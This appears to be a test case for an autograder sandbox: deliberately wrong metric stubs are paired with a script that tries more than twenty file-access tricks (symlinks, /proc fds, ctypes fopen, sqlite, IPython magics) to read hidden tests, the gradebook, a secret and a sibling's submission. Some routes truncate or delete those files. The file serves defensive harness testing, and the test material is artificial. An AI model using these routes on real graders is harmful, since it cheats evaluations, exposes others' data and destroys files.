# id: a06_course_by_path / gain: hidden checks, labels, gradebook / detect: a canary of the harness appears in any output, page, result or log; EXISTS at level full
# desc: open the course by its known path with every way there is to open a file
# category: read-secrets | kind: cells | base: stub
# expect: points == points(stub)
# %%
# honest-looking but WRONG stubs: a run without any attack must score exactly the "stub" points
import numpy as np
def accuracy(y_true, y_pred): return 0.123
def precision(y_true, y_pred): return 0.123
def recall(y_true, y_pred): return 0.123
def f1(y_true, y_pred): return 0.123
class _Const:
    def predict(self, X): return np.full(len(X), -1)
def train_model(X_train, y_train): return _Const()
# %%
import ctypes, glob, mmap, os, shutil, sqlite3, zipfile
import numpy as np, pandas as pd
root = "@COURSE@"
targets = [root + p for p in ("/tests/hidden/attack_target/holdout.csv", "/tests/hidden/attack_target/test_accuracy.py", "/tests/hidden/attack_target/data.py", "/gradebook.db", "/.autograder/secret", "/submitted/sibling/attack_target/notes.txt", "/submitted/sibling/attack_target/attack_target.ipynb")]
libc = ctypes.CDLL(None, use_errno=True)
libc.fopen.restype = ctypes.c_void_p
def by_link(p):
    os.symlink(p, "link"); return open("link", "rb").read()
def by_hard_link(p):
    os.link(p, "hard"); return open("hard", "rb").read()
def by_rename(p): os.rename(p, "mine"); return open("mine", "rb").read()
def by_path_fd(p):
    fd = os.open(p, os.O_PATH); return open(f"/proc/self/fd/{fd}", "rb").read()
def by_dir_fd(p):
    fd = os.open(os.path.dirname(p), os.O_PATH); return os.read(os.open(os.path.basename(p), os.O_RDONLY, dir_fd=fd), 1 << 20)
def by_c(p):
    f = libc.fopen(p.encode(), b"r")
    if not f: raise OSError(ctypes.get_errno(), "fopen")
    b = ctypes.create_string_buffer(1 << 16); libc.fread(b, 1, 1 << 16, ctypes.c_void_p(f)); return b.raw
def by_sqlite(p): return sqlite3.connect(f"file:{p}?mode=ro", uri=True).execute("select * from student").fetchall()
def by_arrow(p):
    import pyarrow as pa
    return pa.OSFile(p).read()
def by_arrow_map(p):
    import pyarrow as pa
    return pa.memory_map(p).read()
ways = [lambda p: open(p, "rb").read(), by_path_fd, by_dir_fd, by_link, by_hard_link, by_rename, by_c, by_sqlite, by_arrow, by_arrow_map,
        lambda p: np.fromfile(p, "u1").tobytes(), lambda p: np.memmap(p).tobytes(), lambda p: pd.read_csv(p), lambda p: shutil.copy(p, "copy"), lambda p: os.listdir(os.path.dirname(p)),
        lambda p: get_ipython().run_line_magic("load", p), lambda p: get_ipython().run_line_magic("pfile", p), lambda p: get_ipython().run_line_magic("run", p), lambda p: __import__("linecache").getlines(p),
        lambda p: __import__("importlib.util").util.spec_from_file_location("x", p).loader.get_data(p), lambda p: os.truncate(p, 0), lambda p: os.unlink(p)]
for p in targets:
    try: os.stat(p); print("EXISTS", p)
    except OSError: pass
    for n, way in enumerate(ways):
        try:
            got = way(p)
            if got: print("READ", n, p, got)
        except BaseException as e: pass
print(glob.glob(root + "/**", recursive=True)[:20], glob.glob(os.path.dirname(root) + "/*")[:20])
